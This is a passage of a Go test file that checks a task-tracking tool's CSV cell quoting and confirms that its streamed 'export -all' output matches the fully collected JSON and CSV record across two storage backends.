		{"", ""}, {"进行中 60%", "进行中 60%"}, {"a=1", "a=1"}, {" =1", " =1"}, {"'=1", "'=1"},
	} {
		if got := record.CSVCell(tt.in); got != tt.want {
			t.Errorf("csvCell(%q): got %q, want %q", tt.in, got, tt.want)
		}
	}
}

// TestExportAllStreamsTheCollectedRecord: `duban export -all`, which streams task by task, is
// byte for byte the record collected whole and written (record.Collect with all, then
// WriteJSON or WriteCSV, which the export did before it streamed), on both stores, for a
// record with yearly tasks, tasks the plan no longer has, a department the plan does not
// name on its task, files and every update kind of text.
func TestExportAllStreamsTheCollectedRecord(t *testing.T) {
	doc := &store.Attachment{Kind: "document", FileID: "BQACAgUAAxkBAAIB", FileUniqueID: "AgADbw8AAphYEVU",
		FileName: "用地指标批复.pdf", MimeType: "application/pdf", Size: 48213}
	photo := &store.Attachment{Kind: "photo", FileID: "AgACAgUAAxkBAAIC", FileUniqueID: "AQADxbwxG5hYEVV-", Size: 9120}
	texts := append([]string{"进行中 60%，\"方案\"已报, 含逗号", "<b>&</b>\n第二行", "完成", "受阻：资金未到位", ""}, formulaTexts...)
	var ups []store.Update
	for i, task := range []int{16, 44, 50, 30, 16, 900, 44, 901, 16, 50, 900, 3, 44} {
		u := attachedUpdate(task, texts[i%len(texts)], nil)
		u.At = u.At.Add(time.Duration(i) * time.Hour)
		switch i % 4 {
		case 1:
			u.Attachment = doc
		case 2:
			u.Attachment = photo
		case 3:
			u.Department = "市财政局" // named by none of these tasks
		}
		pct := i * 9
		if i%3 != 0 {
			u.Percent, u.Status = &pct, store.StatusInProgress
		}
		ups = append(ups, u)
	}
	for _, st := range storesUnderTest(t) {
		t.Run(st.name, func(t *testing.T) {
			path := exportConfig(t, st.url, prefixFor(t, st.url))
			recordAll(t, path, ups...)
			c, p, err := config.Load(path)
			if err != nil {
				t.Fatal(err)
			}
			collected := func(now time.Time) (string, string) {
				s, err := openStore(context.Background(), c, true)
				if err != nil {
					t.Fatal(err)
				}
				defer s.Close()
				snap, err := record.Collect(context.Background(), s, c, p, true, now)
				if err != nil {
					t.Fatal(err)
				}
				var j, v bytes.Buffer
				if err := record.WriteJSON(&j, snap.Tasks, c); err != nil {
					t.Fatal(err)
				}
				if err := record.WriteCSV(&v, snap.Rows, c, true); err != nil {
					t.Fatal(err)
				}
				return j.String(), v.String()
			}
			// Days left are counted from now: the export's is between these two.
			beforeJSON, beforeCSV := collected(time.Now())
			code, gotJSON, errOut := runCLI(t, "export", "-config", path, "-all")
			if code != exitOK {
				t.Fatalf("export: exit %d: %s", code, errOut)
			}
			code, gotCSV, errOut := runCLI(t, "export", "-config", path, "-all", "-format", "csv")
			if code != exitOK {
				t.Fatalf("export csv: exit %d: %s", code, errOut)
			}
			afterJSON, afterCSV := collected(time.Now())
			for _, want := range []string{`"removed": true`, `"id": 900`, `"id": 901`, `"attachment": {`, `"name": "市财政局"`, `"responsible": false`} {
				if !strings.Contains(beforeJSON, want) {
					t.Fatalf("the collected record has no %s: the test records too little", want)
				}
			}
			if gotJSON != beforeJSON && gotJSON != afterJSON {
				t.Errorf("JSON: got\n%.4000s\nwant\n%.4000s", gotJSON, beforeJSON)
			}
			if gotCSV != beforeCSV && gotCSV != afterCSV {
				t.Errorf("CSV: got\n%.4000s\nwant\n%.4000s", gotCSV, beforeCSV)
			}
		})
	}
}
